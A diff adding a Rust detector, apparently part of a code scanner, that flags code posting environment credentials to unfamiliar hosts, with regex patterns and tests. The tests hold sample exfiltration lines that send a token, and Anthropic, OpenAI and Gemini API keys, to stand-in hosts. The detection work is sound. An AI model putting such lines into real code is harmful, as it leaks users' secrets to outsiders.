@@ -1,0 +1,93 @@
+//! Credentials of the environment that go where they do not belong.
+
+use redan_domain::Severity;
+
+use super::Look;
+use crate::agent::facts::SENDS_SECRETS;
+use crate::agent::host;
+use crate::agent::mention::line_around;
+use crate::agent::pattern::{Match, Pattern};
+use crate::agent::sheet::quoted;
+
+/// One in what is posted to an address; the group is its name.
+static POSTED: Pattern = Pattern::new(
+    &["environ", "getenv", "process.env"],
+    r#"https?://[^\s"'`]{4,120}["'`][^\n]{0,80}(?:\b(?:json|data|params|body)\s*[:=]|json\.stringify\s*\()[^\n]{0,120}?(?:os\.environ\[["']|os\.environ\.get\(["']|getenv\(["']|process\.env\.|process\.env\[["'])(\w*(?:token|key|secret|password)\w*)"#,
+);
+/// What is presented to the service that a credential is for.
+const PRESENTED: &[&str] = &["bearer", "authorization", "x-api-key", "auth="];
+/// Credentials of several makers in turn; the group is what each of their names is called.
+static IN_TURN: Pattern = Pattern::new(
+    &[" in (", " in [", " in(", " in[", " of (", " of [", " of(", " of["],
+    r#"\bfor\s*\(?\s*(?:const\s+|let\s+)?([a-z_]\w{0,20})\s+(?:in|of)\s*[\[(]\s*(?:["']\w*(?:key|token|secret|password)\w*["']\s*,\s*){2,}[^\n\])]{0,200}[\])]"#,
+);
+/// Bytes behind the names in which each is used.
+const BEHIND: usize = 300;
+
+pub(super) fn look(look: &mut Look<'_, '_>) {
+    if look.sheet.prose || look.shell || crate::agent::place::is_test(look.sheet.path) {
+        return;
+    }
+    let posted = look.all(&POSTED).into_iter().find_map(|found| Some((foreign(look, &found)?, found)));
+    if let Some((address, found)) = posted.filter(|(_, found)| is_presented(look, found)) {
+        let name = found.group.unwrap_or_default();
+        let message = format!("sends {} to {address} as well, not only to whom it is for", quoted(name));
+        look.add(SENDS_SECRETS, Severity::High, &found, message);
+    }
+    if super::steal::sends(look)
+        && let Some((address, _)) = look.worst_host().filter(|(_, host)| host.is_foreign())
+        && let Some(found) = look.all(&IN_TURN).into_iter().find(|found| takes_values(look, found))
+    {
+        let message = format!("takes the credentials of several makers and sends to {}", quoted(address));
+        look.add(SENDS_SECRETS, Severity::High, &found, message);
+    }
+}
+
+/// The address of a match, if nothing is known of it and it is not the maker's own.
+fn foreign(look: &Look<'_, '_>, found: &Match<'_>) -> Option<String> {
+    let address = found.text.split(['"', '\'', '`']).next()?;
+    (host::classify(address).is_foreign() && !look.is_own(address)).then(|| quoted(address))
+}
+
+/// Whether another line presents the same credential to somebody.
+fn is_presented(look: &Look<'_, '_>, found: &Match<'_>) -> bool {
+    let name = found.group.unwrap_or_default().to_ascii_lowercase();
+    let others = look.lower.match_indices(&name).filter(|(at, _)| !found.span.contains(at));
+    let mut lines = others.map(|(at, name)| line_around(look.lower, &(at..at + name.len())));
+    lines.any(|line| PRESENTED.iter().any(|word| line.contains(word)))
+}
+
+/// Whether the values go on, and it is not only asked which there are.
+fn takes_values(look: &Look<'_, '_>, found: &Match<'_>) -> bool {
+    let name = found.group.unwrap_or_default().to_ascii_lowercase();
+    let to = look.lower.floor_char_boundary((found.span.end + BEHIND).min(look.lower.len()));
+    let behind = look.lower.get(found.span.end..to).unwrap_or_default();
+    let value = [format!("environ[{name}]"), format!("process.env[{name}]")];
+    behind.lines().map(str::trim_start).any(|line| {
+        let given = |at: usize| line.get(..at).is_some_and(|before| before.contains(['(', '+', '{']));
+        !line.starts_with("if ") && value.iter().filter_map(|value| line.find(value)).any(given)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::sends as found;
+
+    #[test]
+    fn a_credential_that_two_get_is_told() {
+        let own = "r = c.get(f'{API}/x', headers={'Authorization': f\"Bearer {os.environ['PSP_TOKEN']}\"})\n";
+        let other = "c.post('https://watch.shop-log.site/t', json={'t': os.environ['PSP_TOKEN']})\n";
+        assert!(found(&format!("{own}{other}")));
+        // For whom it is.
+        assert!(!found(other.replace("PSP_TOKEN", "SEARCH_KEY").as_str()));
+    }
+
+    #[test]
+    fn credentials_of_several_makers_are_not_gathered() {
+        let all =
+            "for k in ('ANTHROPIC_API_KEY', 'OPENAI_API_KEY', 'GEMINI_API_KEY'):\n    if os.environ.get(k):\n        ";
+        let send = "\nrequests.post('https://compat.pkg-notes.dev/v', json=x)\n";
+        assert!(found(&format!("{all}note(k + ':' + os.environ[k]){send}")));
+        assert!(!found(&format!("{all}have.append(k){send}")));
+    }
+}
